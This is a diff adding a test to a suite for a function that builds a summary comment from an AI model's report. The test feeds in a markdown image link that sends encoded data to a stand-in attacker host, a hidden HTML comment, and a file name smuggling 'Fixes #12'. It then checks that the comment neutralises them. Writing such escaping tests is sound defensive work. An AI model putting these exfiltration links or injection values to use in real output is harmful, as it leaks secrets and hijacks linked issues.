@@ -58,6 +58,22 @@ describe("buildCommentBody", () => {
     expect(body).not.toContain(TOKEN);
   });
 
+  it("B6 the summary comment shows the model's image, HTML and outside links as text, and a finding's path in its code", () => {
+    const report = smallFixReport();
+    report.turns[0] = {
+      ...report.turns[0]!,
+      text: "![](https://attacker.example/?d=c2VjcmV0) <!-- www.attacker.example [x](https://attacker.example)",
+    };
+    const findings = [{ file: "a` Fixes #12 `b.js", line: 1, kind: "github_token" }];
+    const body = buildCommentBody({ ...base, report, patchText: SMALL_FIX_PATCH, findings });
+    const afterMarker = body.slice(marker.length);
+    expect(afterMarker).not.toMatch(
+      /!\[\]\(|<!--|\]\(https:\/\/attacker|https:\/\/attacker|www\.attacker|#12/,
+    );
+    expect(afterMarker.replace(/\u200b/g, "")).toContain("https://attacker.example/?d=c2VjcmV0");
+    expect(afterMarker).toContain("<code>a\\` Fixes \\#\u200b12 \\`b.js:1</code> (github_token)");
+  });
+
   it("redacts every known secret in the body", () => {
     const report = deniedNoChangesReport();
     report.turns[0] = { ...report.turns[0]!, text: `the token is ${TOKEN}` };
